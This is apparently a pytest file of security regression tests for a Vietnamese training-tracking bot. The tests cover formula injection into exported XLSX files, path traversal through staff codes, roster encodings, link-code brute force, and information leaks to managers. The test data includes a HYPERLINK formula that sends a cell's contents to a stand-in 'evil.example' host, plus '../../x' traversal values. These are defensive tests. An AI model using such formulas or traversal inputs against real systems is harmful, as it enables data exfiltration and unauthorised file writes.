"""Hostile input on the tracking side (issue 12, items 8-13), on SQLite and PostgreSQL.

Each test reproduces a finding: formula injection into the manager's XLSX,
evidence files escaping the data directory, rosters that crash or lose good
rows, brute-forced link codes, and managers telling "unknown" from "not yours".
"""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from bot.core.messages import Attachment
from bot.core.services import Services
from bot.errors import UserError
from bot.tracking.evidence import evidence_folder
from bot.tracking.identity import MAX_FAILURES
from bot.tracking.models import AuditLog, LinkCode, Staff
from bot.tracking.reports import build_xlsx
from bot.tracking.roster import import_staff
from bot.tracking.service import CompletionInput, TrackingService
from tests.conftest import Province
from tests.tracking_support import *  # noqa: F403
from tests.tracking_support import Chat, staff_chat

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Xem")'


# -- 8. formula injection ------------------------------------------------------------
def test_user_text_in_the_xlsx_is_never_a_formula(prov: Province, tmp_path: Path) -> None:
    """Before: a certificate code typed as "=HYPERLINK(...)" became <f>HYPERLINK(...)</f>."""
    roster = tmp_path / "evil.csv"
    roster.write_text(
        "Mã NV,Họ và tên,Đơn vị,Chức danh\n"
        f'NV900,"{FORMULA.replace(chr(34), chr(34) * 2)}",BVDK-NOI,+Điều dưỡng\n'
        "NV901,@SUM(A1),BVDK-NOI,-1+1\n",
        encoding="utf-8",
    )
    assert not import_staff(prov.tracking, roster, partial=True).errors
    lan = staff_chat(prov, "NV001", "u1")
    lan.say("/ghinhan")
    lan.say("=1+1 khóa tự gõ")  # a typed course name
    lan.say("hôm qua")
    lan.say(FORMULA)  # the certificate code
    lan.say("có")
    assert "Đã ghi nhận" in lan.text("bỏ qua")
    data = build_xlsx(prov.stats, None, as_of=date.today())
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets"))
    assert "<f>" not in xml
    wb = load_workbook(io.BytesIO(data))
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.value]
    strings = [t for t in texts if isinstance(t, str)]
    assert not [t for t in strings if t.startswith(("=", "+", "-", "@"))]
    assert "'" + FORMULA in strings and "'=1+1 khóa tự gõ" in strings
    assert "'@SUM(A1)" in strings and "'+Điều dưỡng" in strings


# -- 9. staff codes and evidence paths --------------------------------------------------
def test_staff_codes_that_could_build_a_path_are_refused_per_row(
    prov: Province, tmp_path: Path
) -> None:
    """Before: the roster accepted "../../x" and a photo was written outside the data dir."""
    roster = tmp_path / "codes.csv"
    roster.write_text(
        "Mã NV,Họ và tên,Đơn vị\n"
        "../../x,Kẻ Xấu,BVDK-NOI\n"
        "a/b,Gạch Chéo,BVDK-NOI\n"
        ".hidden,Chấm Đầu,BVDK-NOI\n"
        "NV 77,Có Dấu Cách,BVDK-NOI\n"
        "NV077,Hợp Lệ,BVDK-NOI\n",
        encoding="utf-8",
    )
    report = import_staff(prov.tracking, roster, partial=True)
    assert report.created == 1 and [e.row for e in report.errors] == [2, 3, 4, 5]
    assert all("không hợp lệ" in e.message for e in report.errors)
    assert prov.tracking.staff_by_code("NV077").full_name == "Hợp Lệ"


def test_evidence_of_a_bad_code_already_stored_stays_in_the_data_dir(
    prov: Province, tmp_path: Path
) -> None:
    # A code stored before validation existed.
    with prov.tracking.db.session() as session:
        session.execute(update(Staff).where(Staff.code == "NV001").values(code="../../x"))
    data_dir = prov.services.settings.data_dir
    folder = evidence_folder(data_dir, 1, "../../x")
    assert folder.is_relative_to((data_dir / "evidence").resolve()) and folder.name == "staff-1"
    prov.tracking.link_identity("../../x", "console", "u1")
    chat = Chat(prov, "u1")
    chat.say("/ghinhan")
    chat.say("1")
    chat.say("hôm qua")
    chat.say(payload="ghinhan:skip")
    chat.say(payload="ghinhan:vneid:yes")
    photo = tmp_path / "cn.png"
    photo.write_bytes(b"\x89PNG\r\n\x1a\n" + b"0" * 50)
    assert "Đã ghi nhận" in chat.text(attachment=Attachment("cn.png", photo, 58, "image/png"))
    stored = list((data_dir / "evidence").rglob("*.png"))
    assert len(stored) == 1 and stored[0].parent.name.startswith("staff-")
    assert not list(data_dir.parent.glob("x*")) and not list(tmp_path.parent.glob("x"))


# -- 10. roster robustness ---------------------------------------------------------------
def test_an_over_long_value_costs_only_its_row_on_both_databases(
    prov: Province, tmp_path: Path
) -> None:
    """Before: PostgreSQL aborted the whole import with a raw SQL dump; SQLite stored it."""
    roster = tmp_path / "long.csv"
    roster.write_text(
        "Mã NV,Họ và tên,Đơn vị,Chức danh\n"
        f"NV800,{'Nguyễn ' * 40},BVDK-NOI,Bác sĩ\n"
        f"NV801,Trần Văn A,BVDK-NOI,{'x' * 201}\n"
        f"{'N' * 41},Trần Văn B,BVDK-NOI,Bác sĩ\n"
        "NV802,Trần Văn C,BVDK-NOI,Bác sĩ\n",
        encoding="utf-8",
    )
    report = import_staff(prov.tracking, roster, partial=True)
    assert report.created == 1 and [e.row for e in report.errors] == [2, 3, 4]
    assert "tối đa 200" in report.errors[0].message
    assert prov.tracking.staff_by_code("NV802").full_name == "Trần Văn C"


def _cp1258(text: str) -> bytes:
    """Windows-1258 as Vietnamese Windows writes it: vowels precomposed, tones combining."""
    import unicodedata

    tones = "\u0300\u0301\u0303\u0309\u0323"
    out = b""
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
            out += (base + "".join(c for c in parts if c in tones)).encode("cp1258")
    return out


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-8-sig", "cp1258"])
def test_roster_encodings_are_detected_and_names_stored_nfc(
    prov: Province, tmp_path: Path, encoding: str
) -> None:
    """Before: UTF-16 crashed with _csv.Error; cp1258 names were stored decomposed."""
    import unicodedata

    text = "Mã NV;Họ và tên;Đơn vị\nNV700;Nguyễn Thị Hường;BVDK-NOI\nNV701;Đỗ Văn Lộc;Khoa Nội\n"
    path = tmp_path / f"roster-{encoding}.csv"
    path.write_bytes(_cp1258(text) if encoding == "cp1258" else text.encode(encoding))
    report = import_staff(prov.tracking, path, partial=True)
    assert report.created == 2 and not report.errors
    name = prov.tracking.staff_by_code("NV700").full_name
    assert name == unicodedata.normalize("NFC", "Nguyễn Thị Hường")
    assert prov.tracking.staff_by_code("NV701").unit.code == "BVDK-NOI"


# -- 11. linking brute force ---------------------------------------------------------------
def _wrong(code: str) -> str:
    return "111111" if code != "111111" else "222222"


def test_link_codes_lock_after_five_failures_until_an_admin_lifts_it(
    prov: Province, make_db_services: Callable[..., Services]
) -> None:
    """Before: 500 wrong codes were tried in 3 s, then the real code linked."""
    tracking = prov.tracking
    code = tracking.issue_link_code("cli", "NV003")
    attacker = Chat(prov, "evil")
    for _ in range(MAX_FAILURES):
        assert "không đúng" in attacker.text(f"/lienket NV003 {_wrong(code)}")
    # The staff code is locked, for every account, and the real code no longer links.
    assert "tạm khóa" in Chat(prov, "other").text(f"/lienket NV003 {code}")
    # A restart (a new service on the same database) does not reset the lock.
    fresh = TrackingService(tracking.db)
    with pytest.raises(UserError, match="tạm khóa"):
        fresh.link_by_code("console", "u3", None, "NV003", code)
    locks = {(x.kind, x.key) for x in tracking.link_locks()}
    assert ("staff", "NV003") in locks and ("account", "console:evil") in locks
    with tracking.db.session() as session:
        failures = session.scalars(select(AuditLog).where(AuditLog.action == "link_failed")).all()
    assert len(failures) == MAX_FAILURES
    assert tracking.unlock("cli", "NV003") == 1
    assert "Phạm Thị Mai" in Chat(prov, "u3").text(f"/lienket NV003 {code}")
    # The attacker's account stays locked for any staff code.
    other = tracking.issue_link_code("cli", "NV004")
    assert "tạm khóa" in attacker.text(f"/lienket NV004 {other}")


def test_a_new_code_revokes_the_old_one_and_codes_are_salted(prov: Province) -> None:
    tracking = prov.tracking
    first = tracking.issue_link_code("cli", "NV003")
    second = tracking.issue_link_code("cli", "NV003")
    assert "không đúng" in Chat(prov, "u3").text(f"/lienket NV003 {first}")
    with tracking.db.session() as session:
        rows = session.scalars(select(LinkCode).order_by(LinkCode.id)).all()
        assert rows[0].revoked_at is not None and rows[1].revoked_at is None
        assert all(len(r.salt) == 32 for r in rows)
        import hashlib

        assert rows[1].code_hash != hashlib.sha256(second.encode()).hexdigest()
    assert "Phạm Thị Mai" in Chat(prov, "u3").text(f"/lienket NV003 {second}")


def test_a_manager_record_is_linked_only_with_a_code_an_admin_issued(prov: Province) -> None:
    """Before: a manager code handed over granted the manager's powers to whoever typed it."""
    tracking = prov.tracking
    # QL001 manages the hospital; make NV002 manager of a ward under it.
    tracking.add_manager("cli", "NV002", "BVDK-NOI")
    manager = staff_chat(prov, "QL001", "m1")
    refused = manager.text("/taomalienket NV002")
    assert "chỉ quản trị viên" in refused and "/lienket" not in refused
    # A code issued before NV002 became a manager does not link the manager record.
    tracking.remove_manager("cli", "NV002", "BVDK-NOI")
    issued = manager.text("/taomalienket NV002")
    code = issued.split(": ")[1].split()[0]
    tracking.add_manager("cli", "NV002", "BVDK-NOI")
    assert "không đúng" in Chat(prov, "u2").text(f"/lienket NV002 {code}")
    # The admin's code works.
    admin_code = tracking.issue_link_code("cli", "NV002")
    assert "Lê Văn Hùng" in Chat(prov, "u2").text(f"/lienket NV002 {admin_code}")


# -- 12. unknown and not-yours get the same answer -------------------------------------------
def test_managers_cannot_tell_unknown_codes_from_other_units(prov: Province) -> None:
    """Before: "Không tìm thấy đơn vị" for unknown, "chỉ xem được ... quản lý" for others."""
    manager = staff_chat(prov, "QL001", "m1")

    def same(unknown: str, other: str) -> None:
        a, b = manager.text(unknown), manager.text(other)
        assert a.replace("KHONGCO", "X").replace("99999", "X") == b.replace("TTYT-NL", "X").replace(
            "NV004", "X"
        ).replace("#1", "#X").replace("#99999", "#X"), (a, b)

    same("/thongke KHONGCO", "/thongke TTYT-NL")
    same("/chuahoanthanh KHONGCO", "/chuahoanthanh TTYT-NL")
    same("/baocao KHONGCO", "/baocao TTYT-NL")
    same("/taomalienket KHONGCO", "/taomalienket NV004")
    # Completion ids: an id of another unit and one that does not exist.
    nv004 = prov.tracking.staff_by_code("NV004")
    course = prov.tracking.find_course("BDHVS-CDS")
    assert course is not None
    row, _ = prov.tracking.log_completion(
        "test", nv004.id, CompletionInput(course.id, date(2026, 3, 1))
    )
    a = manager.text(payload="vr:ok:99999")
    b = manager.text(payload=f"vr:ok:{row.id}")
    assert a.replace("99999", "X") == b.replace(str(row.id), "X")


# -- 10 (part). /duyet without buttons is unambiguous; no self-verification ------------------
def test_numbered_pending_choices_each_name_one_item(prov: Province) -> None:
    """Before: with several pending, "1. Duyệt / 2. Từ chối" repeated per item and
    acted on the first item whatever was meant."""
    tracking = prov.tracking
    course = tracking.find_course("BDHVS-ANKGS")
    assert course is not None
    for code in ("NV001", "NV003"):
        staff = tracking.staff_by_code(code)
        tracking.log_completion("test", staff.id, CompletionInput(course.id, date(2026, 3, 2)))
    manager = staff_chat(prov, "QL001", "m1")
    replies = manager.say("/duyet")
    choices = [b for r in replies for b in r.choices()]
    assert len(replies) == 1 and len(choices) == 6  # three items, one numbered list
    assert len({b.payload for b in choices}) == 6
    assert all("#" in b.label for b in choices)
    third = tracking.pending(manager_actor := tracking.resolve("console", "m1", is_admin=False))[0]
    target = third[1].id  # the second item in the list
    assert f"#{target}" in choices[2].label
    assert "Đã duyệt" in manager.text("3")  # "3" = approve the second item, nothing else
    statuses = {r.id: r.status for r in tracking.pending(manager_actor, limit=10)[0]}
    assert target not in statuses and len(statuses) == 2


def test_a_manager_neither_sees_nor_verifies_their_own_report(prov: Province) -> None:
    tracking = prov.tracking
    course = tracking.find_course("BDHVS-ANKGS")
    assert course is not None
    me = tracking.staff_by_code("QL001")
    row, _ = tracking.log_completion("test", me.id, CompletionInput(course.id, date(2026, 3, 2)))
    manager = staff_chat(prov, "QL001", "m1")
    listing = manager.text("/duyet")
    assert "Trần Văn Minh" not in listing and f"#{row.id}" not in listing
    assert "chính mình" in manager.text(payload=f"vr:ok:{row.id}")
    assert tracking.my_completions(me.id)[0].status == "reported"
